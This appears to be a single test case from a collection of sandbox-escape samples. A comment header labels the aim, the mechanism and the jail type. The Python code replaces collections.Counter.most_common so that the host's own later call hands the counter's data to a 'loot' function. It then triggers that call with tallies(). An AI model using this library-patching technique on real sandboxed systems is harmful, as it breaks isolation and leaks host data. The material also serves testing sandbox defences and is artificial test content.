# aim: change a library class and have the host call the change while it lasts
# mechanism: a tool that uses the class runs before anything could be put back
# language: run
# reason: the host's code never runs with changed libraries
# jail: process
# plain: loot

import collections

collections.Counter.most_common = lambda self, n=None: loot(dict(self))
tallies()
